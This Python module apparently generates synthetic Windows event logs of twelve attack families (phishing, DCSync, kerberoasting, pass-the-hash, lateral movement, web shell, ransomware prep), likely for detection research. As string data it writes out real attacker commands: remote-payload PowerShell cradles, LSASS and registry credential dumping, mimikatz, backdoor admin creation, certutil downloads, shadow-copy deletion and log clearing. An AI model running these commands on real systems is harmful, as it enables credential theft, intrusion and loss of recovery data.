"""Scripts of attacks on a Windows estate."""

# ruff: noqa: E501 (command lines and records are kept whole)

from __future__ import annotations

from datetime import datetime

from .base import Host, Person, World
from .cloud import Cloud
from .ordinary import OFFICE, Estate, background_traffic
from .windows import POWERSHELL_EXE, SYS32, Proc, Windows, encoded

LSASS = "C:\\Windows\\system32\\lsass.exe"
TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000219A3F31E2B)"
DISCOVERY = (
    "whoami /all",
    "net user /domain",
    'net group "Domain Admins" /domain',
    "nltest /domain_trusts",
    "systeminfo",
    "net localgroup administrators",
    "ipconfig /all",
    "tasklist /v",
    "quser",
    "arp -a",
)


def _estate(w: World, *, quiet_admin: float = 0.5) -> Estate:
    rng = w.rng
    e = Estate(
        w,
        users=rng.randint(4, 26),
        admins=rng.randint(2, 4),
        servers=rng.randint(2, 6),
        services=rng.randint(2, 5),
        dcs=rng.choice([1, 1, 2]),
    )
    e.admins[0].quiet = rng.random() < quiet_admin
    return e


def _end(w: World, e: Estate, around: datetime, hosts: list[Host], involved: set[Person]) -> None:
    e.beside(around, hosts, but=involved)
    if w.rng.random() < 0.35:
        background_traffic(w, Cloud(w), w.rng.randint(60, 200))


def _lose(w: World, *modes: str) -> None:
    """Take log sources away from the world, one of the modes given, or none half of the time."""
    if not modes or w.rng.random() < 0.5:
        return
    mode = w.rng.choice(modes)
    logons = {4624, 4625, 4634, 4648, 4672, 4768, 4769, 4771, 4776}

    def kept(body: dict[str, object]) -> bool:
        channel = str(body["channel"])
        if mode == "sysmon_only":
            return "Sysmon" in channel or "PowerShell" in channel
        if mode == "security_only":
            return channel in ("Security", "System")
        if mode == "no_logons":
            return body["eid"] not in logons
        if mode == "no_powershell":
            return "PowerShell" not in channel
        return True

    w.records = [r for r in w.records if r.stream != "windows" or kept(r.body)]
    w.missing = (mode,)


def desk(e: Estate, at: datetime, person: Person, host: Host) -> Proc:
    """Return a person's desktop; of a quiet one, opened before the log begins, so that only the abuse is in it."""
    if person.quiet:
        win = e.win
        return Proc(
            host,
            person,
            win.logon_id(),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            win.pid(),
            win.guid(),
        )
    return e.win.shell(at, person, host)


def beacon(w: World, e: Estate, victim: Person, at: datetime) -> tuple[Proc, datetime]:
    """Write a lure opened by its reader, ending in a PowerShell that calls out."""
    win, rng, host = e.win, w.rng, victim.home
    assert host is not None
    c2 = w.outside_ip()
    name = rng.choice(["cdn-sync", "update-telemetry", "files-share", "portal-login"]) + ".invalid"
    stage = f"IEX (New-Object Net.WebClient).DownloadString('http://{name}/{rng.choice(['a', 'index', 'u'])}.ps1')"
    shell = win.shell(at, victim, host)
    kind = rng.randint(0, 3)
    if kind == 0:
        word = win.start(
            at,
            shell,
            OFFICE + "WINWORD.EXE",
            f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\{victim.name}\\Downloads\\Invoice_{rng.randrange(1000, 9999)}.docm" /o ""',
        )
        parent, cmd = word, f"powershell.exe -nop -w hidden -enc {encoded(stage)}"
    elif kind == 1:
        ws = win.start(
            at,
            shell,
            SYS32 + "wscript.exe",
            f'"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{victim.name}\\Downloads\\Delivery_{rng.randrange(99)}.js" ',
        )
        parent, cmd = ws, f'"{POWERSHELL_EXE}" -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded(stage)}'
    elif kind == 2:
        hta = win.start(at, shell, SYS32 + "mshta.exe", f'"C:\\Windows\\System32\\mshta.exe" http://{name}/view.hta')
        parent, cmd = hta, f'powershell -ep bypass -w 1 -c "{stage}"'
    else:
        cmdp = win.start(
            at,
            shell,
            SYS32 + "cmd.exe",
            f'"C:\\Windows\\System32\\cmd.exe" /v /c start /min powershell -nop -w hidden -e {encoded(stage)[:40]}',
        )
        parent, cmd = cmdp, f"powershell  -nop -w hidden -e {encoded(stage)}"
    at = w.later(at, 4, 15)
    ps = win.start(at, parent, POWERSHELL_EXE, cmd)
    win.script(w.later(at, 0.4, 1), ps, stage)
    win.lookup(w.later(at, 1, 2), ps, name, c2)
    win.connect(w.later(at, 2, 3), ps, c2, rng.choice([80, 443, 8080]))
    return ps, at


def discover(w: World, e: Estate, proc: Proc, at: datetime, n: int) -> datetime:
    """Write the questions an intruder asks first."""
    for cmd in w.rng.sample(DISCOVERY, n):
        at = w.later(at, 3, 40)
        e.win.start(
            at,
            proc,
            f"{SYS32}{cmd.split()[0]}.exe",
            f'"C:\\Windows\\system32\\{cmd.split()[0]}.exe" {cmd.partition(" ")[2]}',
        )
    return at


def dump(w: World, e: Estate, proc: Proc, at: datetime) -> datetime:
    """Write credentials taken from memory or the registry."""
    win, rng = e.win, w.rng
    before, proc.integrity = proc.integrity, "High"
    match rng.randint(0, 4):
        case 0:
            tool = win.start(
                at,
                proc,
                SYS32 + "rundll32.exe",
                f'"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll MiniDump 712 C:\\Users\\Public\\{rng.choice(["d", "lsass", "x"])}.dmp full',
            )
        case 1:
            tool = win.start(
                at,
                proc,
                f"C:\\Users\\Public\\{rng.choice(['procdump64', 'pd'])}.exe",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp",
            )
        case 2:
            tool = win.start(
                at, proc, "C:\\Users\\Public\\m.exe", 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
            )
        case 3:
            for hive in ("sam", "system", "security"):
                at = w.later(at, 2, 6)
                tool = win.start(
                    at, proc, SYS32 + "reg.exe", f"reg save HKLM\\{hive} C:\\Users\\Public\\{hive[:3]}.hiv /y"
                )
            proc.integrity = before
            return at
        case _:
            win.script(at, proc, "Invoke-Mimikatz -DumpCreds")
            tool = proc
    win.open_process(w.later(at, 0.2, 0.6), tool, LSASS, rng.choice(["0x1fffff", "0x1010", "0x1410"]), TRACE)
    if tool is not proc:
        win.write_file(w.later(at, 0.7, 1.2), tool, "C:\\Users\\Public\\l.dmp")
    proc.integrity = before
    return w.later(at, 5, 20)


def _payload(rng_text: str) -> str:
    return f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc {encoded(rng_text)}"


def move(w: World, e: Estate, proc: Proc, admin: Person, target: Host, at: datetime, how: str) -> tuple[Proc, datetime]:
    """Write a move to another host with another account's credentials; return the process there."""
    win: Windows = e.win
    rng, src = w.rng, proc.host
    package = rng.choice(["Kerberos", "NTLM"])
    if proc.owner is not admin and rng.random() < 0.6:
        win.explicit(at, proc.owner, admin, src, target.name, logon_id=proc.logon_id, process=proc.image)
    at = w.later(at, 0.3, 1.5)
    run = rng.choice(["whoami & hostname", "net user", "dir C:\\Users", "type C:\\Users\\*\\Desktop\\pass*.txt"])
    match how:
        case "service":
            logon = win.logon(at, admin, target, 3, src=src, package=package, admin=True)
            win.share(
                w.later(at, 0.1, 0.3),
                admin,
                target,
                rng.choice(["ADMIN$", "C$"]),
                f"{rng.choice('kqzx')}{rng.randrange(10**6)}.exe",
                src,
                logon,
            )
            win.share(w.later(at, 0.4, 0.6), admin, target, "IPC$", "svcctl", src, logon)
            name = rng.choice(["PSEXESVC", "BTOBTO", f"{rng.choice('abck')}{rng.randrange(10**7)}", "WinUpdSvc"])
            path = rng.choice(
                [_payload("IEX $x"), f"%SystemRoot%\\{name}.exe", f"cmd.exe /c echo {run} > \\\\.\\pipe\\{name}"]
            )
            win.service(w.later(at, 0.8, 1.2), admin, target, name, path, logon)
            there = win.start(
                w.later(at, 1.3, 2),
                win.services(target),
                SYS32 + "cmd.exe",
                f"C:\\Windows\\system32\\cmd.exe /Q /c echo {run} ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\TEMP\\execute.bat"
                if rng.random() < 0.5
                else path,
                owner=win.system,
                logon_id="0x3e7",
            )
        case "task":
            win.start(
                at,
                proc,
                SYS32 + "schtasks.exe",
                f'schtasks /create /F /S {target.name} /U {admin.full} /P * /RU SYSTEM /SC ONCE /ST 23:59 /TN "\\{rng.choice(["Updater", "MicrosoftEdgeCore", "SyncHelper"])}" /TR "cmd.exe /c powershell -nop -w hidden -enc {encoded(run)}"',
            )
            at = w.later(at, 0.5, 1)
            logon = win.logon(at, admin, target, 3, src=src, package=package, admin=True)
            win.share(w.later(at, 0.1, 0.2), admin, target, "IPC$", "atsvc", src, logon)
            win.task(
                w.later(at, 0.3, 0.5),
                admin,
                target,
                "\\Updater",
                "cmd.exe",
                f"/c powershell -nop -w hidden -enc {encoded(run)}",
                logon,
            )
            there = win.start(
                w.later(at, 5, 30),
                win.svchost(target),
                SYS32 + "cmd.exe",
                f"cmd.exe /c powershell -nop -w hidden -enc {encoded(run)}",
                owner=win.system,
                logon_id="0x3e7",
            )
        case "winrm":
            win.script(
                at,
                proc,
                f"$c = New-Object PSCredential('{admin.full}', $p); Invoke-Command -ComputerName {target.name} -Credential $c -ScriptBlock {{ {run} }}",
            )
            win.connect(w.later(at, 0.1, 0.2), proc, target.ip, 5985, target.fqdn)
            logon = win.logon(w.later(at, 0.3, 0.5), admin, target, 3, src=src, package=package, admin=True)
            wsm = win.start(
                w.later(at, 0.6, 0.9),
                win.svchost(target, "DcomLaunch -p"),
                SYS32 + "wsmprovhost.exe",
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                owner=admin,
                logon_id=logon,
                integrity="High",
            )
            there = win.start(
                w.later(at, 1, 2), wsm, POWERSHELL_EXE, f"powershell.exe -nop -w hidden -enc {encoded(run)}"
            )
        case "wmi":
            win.start(
                at,
                proc,
                SYS32 + "wbem\\WMIC.exe",
                f'wmic /node:{target.name} /user:{admin.full} process call create "cmd.exe /c {run} > C:\\Windows\\Temp\\o.txt"',
            )
            at = w.later(at, 0.3, 1)
            logon = win.logon(at, admin, target, 3, src=src, package=package, admin=True)
            wmi = Proc(
                target,
                win.network_service,
                "0x3e4",
                SYS32 + "wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                win.pid(),
                win.guid(),
                "System",
            )
            there = win.start(
                w.later(at, 0.3, 0.8),
                wmi,
                SYS32 + "cmd.exe",
                f"cmd.exe /Q /c {run} 1> \\\\127.0.0.1\\ADMIN$\\__{int(at.timestamp())}.{rng.randrange(999999)} 2>&1",
                owner=admin,
                logon_id=logon,
                integrity="High",
            )
        case _:
            win._shells.pop((admin.full, target.name), None)
            if proc.owner.kind != "system":
                win.start(at, proc, SYS32 + "mstsc.exe", f"mstsc.exe /v:{target.name}")
            desk = win.shell(w.later(at, 2, 5), admin, target, logon_type=10, src=src, admin=True)
            desk.integrity = "High"
            there = win.start(w.later(at, 20, 40), desk, SYS32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ')
    return there, w.later(at, 10, 60)


# ---- the families ------------------------------------------------------------------------------
def phish_chain(w: World) -> None:
    """Lure, encoded PowerShell, credentials dumped, a server reached by service with an admin's."""
    e = _estate(w)
    e.day()
    victim, admin, server = w.rng.choice(e.users), e.admins[0], w.rng.choice(e.servers)
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.3, 0.6))
        at = discover(w, e, ps, at, w.rng.randint(2, 5))
        at = dump(w, e, ps, at)
        there, at = move(w, e, ps, admin, server, at, "service")
        discover(w, e, there, at, 2)
    w.take_over(victim, admin)
    _end(w, e, at, [server, victim.home], {victim, admin})  # type: ignore[list-item]
    _lose(w, "security_only", "no_powershell")


def remote_task(w: World) -> None:
    """A task made on another host with an administrator's stolen credentials."""
    e = _estate(w)
    e.day()
    victim, admin, server = w.rng.choice(e.users), e.admins[0], w.rng.choice(e.servers)
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.3, 0.6))
        at = discover(w, e, ps, at, 2)
        there, at = move(w, e, ps, admin, server, at, "task")
        discover(w, e, there, at, 2)
    w.take_over(victim, admin)
    _end(w, e, at, [server], {victim, admin})
    _lose(w, "security_only", "no_powershell")


def winrm_lateral(w: World) -> None:
    """PowerShell remoting with stolen credentials, from host to host."""
    e = _estate(w)
    e.day()
    victim, admin = w.rng.choice(e.users), e.admins[0]
    targets = w.rng.sample(e.servers, min(2, len(e.servers)))
    with w.hostile():
        proc, at = beacon(w, e, victim, w.moment(0.3, 0.6))
        source = proc
        for target in targets:
            there, at = move(w, e, source, admin, target, at, "winrm")
            at = discover(w, e, there, at, 2)
        at = dump(w, e, there, at)
    w.take_over(victim, admin)
    _end(w, e, at, targets, {victim, admin})
    _lose(w, "no_logons", "sysmon_only", "security_only")


def dcsync(w: World) -> None:
    """Directory secrets replicated by a user account from a workstation."""
    e = _estate(w)
    thief = w.rng.choice([e.admins[0], w.rng.choice(e.users)])
    thief.quiet = w.rng.random() < 0.5
    e.day()
    assert thief.home is not None
    with w.hostile():
        at = w.moment(0.3, 0.8)
        if w.rng.random() < 0.7:
            shell = desk(e, at, thief, thief.home)
            ps = e.win.start(
                w.later(at, 5, 30), shell, POWERSHELL_EXE, "powershell.exe -nop -exec bypass", integrity="High"
            )
            at = w.later(at, 40, 90)
            if w.rng.random() < 0.6:
                e.win.start(
                    at, ps, "C:\\ProgramData\\x64\\m.exe", f'm.exe "lsadump::dcsync /domain:{w.dns} /user:krbtgt" exit'
                )
            else:
                e.win.script(at, ps, f"Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:{w.dns} /all /csv\"'")
        logon = e.win.logon(w.later(at, 1, 2), thief, e.dc, 3, src=thief.home, admin=True)
        e.win.replicate(w.later(at, 2.5, 3), thief, e.dc, logon)
        e.win.logoff(w.later(at, 5, 12), thief, e.dc, logon)
    w.take_over(thief)
    w.neutral("krbtgt")
    _end(w, e, at, [e.dc, thief.home], {thief})
    _lose(w, "no_powershell", "security_only")


def spray_new_admin(w: World) -> None:
    """Many accounts tried with a few passwords, one opens, a new administrator is made."""
    e = _estate(w)
    rng = w.rng
    hit = rng.choice([e.admins[0], e.services[0]])
    hit.quiet = rng.random() < 0.5
    e.day()
    pool = [p for p in [*e.users, *e.admins, *e.services] if p is not hit]
    sprayed = rng.sample(pool, min(len(pool), rng.randint(6, 24)))
    outside = rng.random() < 0.5
    source = None if outside else rng.choice(e.users).home
    ip = w.outside_ip() if outside else source.ip  # type: ignore[union-attr]
    door = rng.choice(e.servers)
    with w.hostile():
        at = w.moment(0.2, 0.6)
        for round_ in range(rng.randint(1, 3)):
            for p in rng.sample(sprayed, len(sprayed)):
                at = w.later(at, 0.4, 9)
                if rng.random() < 0.5 and not outside:
                    e.win.preauth_failed(at, p, e.dc, ip)
                e.win.failed_logon(at, p, door, src=source, src_ip=ip, src_name="WIN-" + "K3J2H1"[: 3 + round_])
        at = w.later(at, 3, 15)
        e.win.failed_logon(at, hit, door, src=source, src_ip=ip)
        at = w.later(at, 5, 60)
        how = rng.choice([3, 10])
        logon = e.win.logon(at, hit, door, how, src=source, src_ip=ip, package="NTLM", admin=True)
        desk = Proc(door, hit, logon, SYS32 + "cmd.exe", "cmd.exe", e.win.pid(), e.win.guid(), "High")
        at = discover(w, e, desk, w.later(at, 10, 60), 2)
        name = rng.choice(["support_388945", "helpadmin", "sysupd", "WDAGUtil", "backupadm"])
        e.win.start(at, desk, SYS32 + "net.exe", f"net user {name} P@ssw0rd-Example1 /add")
        new = e.win.account_made(w.later(at, 0.3, 0.6), hit, name, door, logon, local=True)
        e.win.start(w.later(at, 4, 9), desk, SYS32 + "net.exe", f"net localgroup Administrators {name} /add")
        e.win.group_add(w.later(at, 9.2, 9.5), hit, new, "Administrators", door, logon, local=True)
        if rng.random() < 0.6:
            at = w.later(at, 60, 400)
            desk2 = e.win.shell(at, new, door, logon_type=10, src=source, src_ip=ip, admin=True, tickets=False)
            desk2.integrity = "High"
            dump(w, e, desk2, w.later(at, 30, 90))
    w.take_over(hit)
    w.create(name)
    w.target(*sprayed)
    _end(w, e, at, [door], {hit, *sprayed})
    _lose(w, "security_only", "no_powershell")


def solo_abuse(w: World) -> None:
    """One account, on one host, taking secrets: a legitimate user's or nobody's."""
    e = _estate(w)
    rng = w.rng
    thief = rng.choice([e.admins[0], *e.users[:3]])
    thief.quiet = rng.random() < 0.5
    e.day()
    host = thief.home
    assert host is not None
    with w.hostile():
        at = w.moment(0.3, 0.8)
        shell = desk(e, at, thief, host)
        ps = e.win.start(
            w.later(at, 3, 20),
            shell,
            POWERSHELL_EXE,
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
            integrity="High",
        )
        at = dump(w, e, ps, w.later(at, 30, 90))
        at = dump(w, e, ps, at)
        if rng.random() < 0.5:
            e.win.start(at, ps, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security")
            e.win.log_cleared(w.later(at, 0.1, 0.3), thief, host, shell.logon_id)
    w.take_over(thief)
    _end(w, e, at, [host], {thief})
    _lose(w, "sysmon_only", "security_only", "no_logons")


def kerberoast(w: World) -> None:
    """Service tickets asked for with weak encryption; one service account is then used."""
    e = _estate(w)
    rng = w.rng
    extra = [w.person("service", home=rng.choice(e.servers), label=f"app{i}") for i in range(rng.randint(2, 6))]
    victim, cracked = rng.choice(e.users), e.services[0]
    cracked.quiet = rng.random() < 0.5
    e.services += extra[: len(extra) // 2]
    for p in extra[len(extra) // 2 :]:
        p.quiet = True
    e.day()
    asked = [*e.services[1:], *extra[len(extra) // 2 :]]
    server = rng.choice(e.servers)
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.25, 0.5))
        at = w.later(at, 30, 120)
        if rng.random() < 0.5:
            e.win.script(
                at,
                ps,
                "Invoke-Kerberoast -OutputFormat Hashcat | Select-Object Hash | Out-File C:\\Users\\Public\\h.txt",
            )
        else:
            e.win.start(at, ps, "C:\\Users\\Public\\Rubeus.exe", "Rubeus.exe kerberoast /outfile:h.txt /rc4opsec")
        for p in rng.sample([*asked, cracked], len(asked) + 1):
            at = w.later(at, 0.05, 0.6)
            e.win.ticket(at, victim, p, victim.home, e.dc, encryption="0x17")  # type: ignore[arg-type]
        at = w.later(at, 1800, 4000)
        there, at = move(w, e, ps, cracked, server, at, rng.choice(["winrm", "wmi", "service"]))
        dump(w, e, there, at)
    w.take_over(victim, cracked)
    w.target(*asked)
    _end(w, e, at, [server], {victim, cracked, *asked})
    _lose(w, "no_powershell", "security_only")


def pass_the_hash(w: World) -> None:
    """A token with another account's hash (logon type 9, seclogo), then NTLM logons to servers."""
    e = _estate(w)
    rng = w.rng
    e.day()
    victim, admin = rng.choice(e.users), e.admins[0]
    targets = rng.sample(e.servers, min(2, len(e.servers)))
    host = victim.home
    assert host is not None
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.3, 0.6))
        at = dump(w, e, ps, w.later(at, 60, 200))
        e.win.start(
            at,
            ps,
            "C:\\Users\\Public\\m.exe",
            f'm.exe "sekurlsa::pth /user:{admin.name} /domain:{w.dns} /ntlm:REDACTED /run:cmd.exe"',
        )
        token = e.win.runas_netonly(w.later(at, 0.5, 1), victim, host, admin, ps.logon_id)
        cmd = e.win.start(w.later(at, 1.5, 2), ps, SYS32 + "cmd.exe", "cmd.exe", logon_id=token, integrity="High")
        for target in targets:
            at = w.later(at, 20, 90)
            logon = e.win.logon(at, admin, target, 3, src=host, package="NTLM", admin=True)
            e.win.share(w.later(at, 0.2, 0.5), admin, target, "ADMIN$", "svc.exe", host, logon)
            name = f"svc{rng.randrange(10**5)}"
            e.win.service(w.later(at, 1, 2), admin, target, name, _payload("IEX $y"), logon)
            e.win.start(
                w.later(at, 2, 3),
                e.win.services(target),
                SYS32 + "cmd.exe",
                f"cmd.exe /c start /b powershell.exe -nop -w hidden -enc {encoded('IEX $y')}",
                owner=e.win.system,
                logon_id="0x3e7",
            )
        e.win.stop(w.later(at, 10, 20), cmd)
    w.take_over(victim, admin)
    _end(w, e, at, targets, {victim, admin})
    _lose(w, "security_only", "no_powershell")


def wmi_exec(w: World) -> None:
    """Commands on other hosts through WMI with an administrator's credentials."""
    e = _estate(w)
    e.day()
    rng = w.rng
    victim, admin = rng.choice(e.users), e.admins[0]
    targets = rng.sample([*e.servers, e.files], 2)
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.3, 0.6))
        at = discover(w, e, ps, at, 3)
        for target in targets:
            there, at = move(w, e, ps, admin, target, at, "wmi")
            at = discover(w, e, there, at, 2)
    w.take_over(victim, admin)
    _end(w, e, at, targets, {victim, admin})
    _lose(w, "sysmon_only", "security_only", "no_logons")


def account_and_rdp(w: World) -> None:
    """An account made with a stolen administrator, added to a strong group, used by remote desktop."""
    e = _estate(w)
    rng = w.rng
    e.day()
    admin, victim = e.admins[0], rng.choice(e.users)
    server = rng.choice(e.servers)
    domain_wide = rng.random() < 0.5
    with w.hostile():
        ps, at = beacon(w, e, victim, w.moment(0.2, 0.5))
        place = e.dc if domain_wide else server
        there, at = move(w, e, ps, admin, place, at, rng.choice(["winrm", "rdp", "wmi"]))
        name = rng.choice(["svc_update", "itadmin2", "printsvc1", "j.doe.adm", "MSSQLAgent"])
        e.win.start(
            at, there, SYS32 + "net.exe", f"net user {name} Example-Pass-1 /add" + (" /domain" if domain_wide else "")
        )
        new = e.win.account_made(w.later(at, 0.3, 0.5), admin, name, place, there.logon_id, local=not domain_wide)
        group = "Domain Admins" if domain_wide else "Administrators"
        at = w.later(at, 10, 30)
        e.win.start(
            at,
            there,
            SYS32 + "net.exe",
            f'net {"group" if domain_wide else "localgroup"} "{group}" {name} /add'
            + (" /domain" if domain_wide else ""),
        )
        e.win.group_add(w.later(at, 0.3, 0.5), admin, new, group, place, there.logon_id, local=not domain_wide)
        at = w.later(at, 120, 900)
        desk = e.win.shell(at, new, server, logon_type=10, src=victim.home, admin=True, tickets=domain_wide)
        desk.integrity = "High"
        at = discover(w, e, desk, w.later(at, 20, 60), 2)
        dump(w, e, desk, at)
    w.take_over(victim, admin)
    w.create(name)
    _end(w, e, at, [server], {victim, admin})
    _lose(w, "security_only", "no_powershell", "sysmon_only")


def webshell_iis(w: World) -> None:
    """A web shell under w3wp: commands by an application pool; no person's account takes part."""
    e = _estate(w, quiet_admin=0.0)
    rng = w.rng
    e.day()
    server = rng.choice(e.servers)
    pool = Person(
        "DefaultAppPool", "IIS APPPOOL", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", "service"
    )
    logon = e.win.logon_id()
    w3wp = Proc(
        server,
        pool,
        logon,
        SYS32 + "inetsrv\\w3wp.exe",
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
        e.win.pid(),
        e.win.guid(),
        "High",
    )
    ip = w.outside_ip()
    with w.hostile():
        at = w.moment(0.3, 0.7)
        e.win.write_file(at, w3wp, "C:\\inetpub\\wwwroot\\uploads\\help.aspx")
        for cmd in rng.sample(
            [
                "whoami",
                "ipconfig /all",
                "net user",
                "dir C:\\inetpub",
                "systeminfo",
                "tasklist /v",
                "net localgroup administrators",
            ],
            rng.randint(3, 5),
        ):
            at = w.later(at, 5, 60)
            sh = e.win.start(at, w3wp, SYS32 + "cmd.exe", f'"cmd.exe" /c {cmd}')
            if cmd.split()[0] != "dir":
                e.win.start(w.later(at, 0.05, 0.2), sh, f"{SYS32}{cmd.split()[0]}.exe", cmd)
        if rng.random() < 0.6:
            sh = e.win.start(
                w.later(at, 30, 60),
                w3wp,
                SYS32 + "cmd.exe",
                f'"cmd.exe" /c certutil -urlcache -split -f http://{ip}/a.exe C:\\Windows\\Temp\\a.exe',
            )
            e.win.start(
                w.later(at, 60, 61),
                sh,
                SYS32 + "certutil.exe",
                f"certutil  -urlcache -split -f http://{ip}/a.exe C:\\Windows\\Temp\\a.exe",
            )
    _end(w, e, at, [server], set())
    _lose(w, "sysmon_only", "security_only", "no_logons")


def ransom_rdp(w: World) -> None:
    """An administrator's password used by remote desktop from outside: defences off, copies deleted."""
    e = _estate(w)
    rng = w.rng
    e.day()
    admin, door = e.admins[0], rng.choice(e.servers)
    others = [h for h in [*e.servers, e.files] if h is not door]
    ip = w.outside_ip()
    with w.hostile():
        at = w.moment(0.4, 0.8)
        e.win._shells.pop((admin.full, door.name), None)
        desk = e.win.shell(at, admin, door, logon_type=10, src_ip=ip, admin=True)
        desk.integrity = "High"
        cmd = e.win.start(w.later(at, 20, 60), desk, SYS32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ')
        at = w.later(at, 70, 120)
        for image, text in (
            (POWERSHELL_EXE, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
            (SYS32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
            (SYS32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
            (SYS32 + "wbadmin.exe", "wbadmin delete catalog -quiet"),
            (SYS32 + "wevtutil.exe", "wevtutil cl Security"),
        ):
            at = w.later(at, 3, 30)
            e.win.start(at, cmd, image, text)
        e.win.log_cleared(w.later(at, 0.1, 0.2), admin, door, desk.logon_id)
        for target in others[: rng.randint(0, 2)]:
            there, at = move(w, e, cmd, admin, target, at, rng.choice(["service", "wmi", "winrm"]))
            e.win.start(at, there, SYS32 + "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")
    w.take_over(admin)
    _end(w, e, at, [door], {admin})
    _lose(w, "security_only", "no_powershell", "sysmon_only", "no_logons")


FAMILIES = {
    f.__name__: f
    for f in (
        phish_chain,
        remote_task,
        winrm_lateral,
        dcsync,
        spray_new_admin,
        solo_abuse,
        kerberoast,
        pass_the_hash,
        wmi_exec,
        account_and_rdp,
        webshell_iis,
        ransom_rdp,
    )
}
